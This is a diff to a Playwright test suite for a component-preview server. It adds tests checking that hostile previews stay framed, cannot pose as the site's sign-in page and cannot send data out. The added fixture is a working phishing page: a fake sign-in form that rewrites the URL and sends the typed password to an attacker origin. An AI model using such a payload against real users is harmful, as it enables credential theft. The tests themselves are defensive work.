@@ -14,6 +14,17 @@ document.querySelector("p").textContent = components.map(({ id }) => id).join(" 
 document.querySelector("p").style.height = height;
 document.querySelector("p").append(Object.assign(new Image(), { src: "/assets/PICTURE" }));`;
 
+/** Looks like our sign-in page and calls itself that; what is typed is to leave with the next address. */
+const phishing = (evil: string) => `<!doctype html><html lang="en"><head><title>Sign in</title></head><body>
+<h1>Sign in</h1><input type="password"><button>Sign in</button><script>
+history.replaceState({}, "", "/sign-in");
+document.body.toggleAttribute("data-renamed", location.pathname === "/sign-in");
+document.querySelector("button").onclick = () => {
+  const address = "${evil}/?pw=" + document.querySelector("input").value;
+  try { top.location = address } catch {}
+};
+</script></body></html>`;
+
 /** Ways to the same hostile document. */
 const WAYS = [
   "/api/component/attack/preview/default.html",
@@ -55,6 +66,8 @@ describe("previews that mean harm", () => {
           change("component_source", "attack/attack.html", { content: html, encoding: "utf8" }),
           change("component_screenshot", "attack/screenshot.png", { content: html, encoding: "utf8" }),
           change("pattern", "attack", { id: "attack", title: "Attack", html }),
+          change("component", "phishing", { title: "Phishing", previews: { default: {} } }),
+          artifact("phishing/phishing-default.html", phishing(evil.origin)),
           change("component", "good", { title: "Good", previews: { default: {} } }),
           artifact("good/good-default.html", GOOD),
           artifact("good/good.js", GOOD_JS.replace("/assets/PICTURE", picture)),
@@ -142,15 +155,44 @@ describe("previews that mean harm", () => {
     await expectUnharmed(page);
   });
 
-  it.each(WAYS)("get nothing when %s is opened by itself", async (way) => {
+  it.each(WAYS)("get nothing when %s is opened by itself, and our page stands around them", async (way) => {
     const { page, did } = await open();
     await page.goto(way);
-    expect(await gotBy(page.mainFrame())).toEqual([]);
-    await page.evaluate(() => window.leave?.(false));
+    const framed = page.frames().find((frame) => frame !== page.mainFrame() && isAttack(frame.url()));
+    if (!framed) throw new Error("There is no frame with the preview.");
+    expect(await gotBy(framed)).toEqual([]);
+    await framed.evaluate(() => window.leave?.(true)).catch(() => undefined);
     await page.waitForTimeout(300);
     expect(new URL(page.url()).pathname).toBe(way);
+    expect(await page.getByRole("banner").getByText("Preview of").isVisible()).toBe(true);
     expect([did, requests()]).toEqual([[], []]);
     await expectUnharmed(page);
+  });
+
+  it("cannot call themselves our sign-in page, opened by themselves or without the header", async () => {
+    const { page } = await open();
+    const way = "/api/component/phishing-default.html";
+    await page.goto(way);
+    const framed = page.frameLocator("iframe");
+    await expect.poll(() => framed.locator("[data-renamed]").count()).toBe(1);
+    expect(new URL(page.url()).pathname).toBe(way);
+    expect(await page.title()).toMatch(/^Preview · /);
+    // What left by itself would have taken the password along.
+    await framed.locator("input").fill("hunter2");
+    await framed.locator("button").click();
+    await page.waitForTimeout(300);
+    expect(new URL(page.url()).pathname).toBe(way);
+    expect(requests()).toEqual([]);
+    // A browser that does not say what it wants the document for gets it without scripts.
+    const { page: old } = await open();
+    await old.route(`**${way}`, async (route) => {
+      const { "sec-fetch-dest": _, ...headers } = await route.request().allHeaders();
+      await route.fulfill({ response: await route.fetch({ headers }) });
+    });
+    await old.goto(way);
+    expect(await old.locator("input").count()).toBe(1);
+    expect(await old.locator("[data-renamed]").count()).toBe(0);
+    expect(new URL(old.url()).pathname).toBe(way);
   });
 
   it("run nothing with rights in whatever file they come as", async () => {
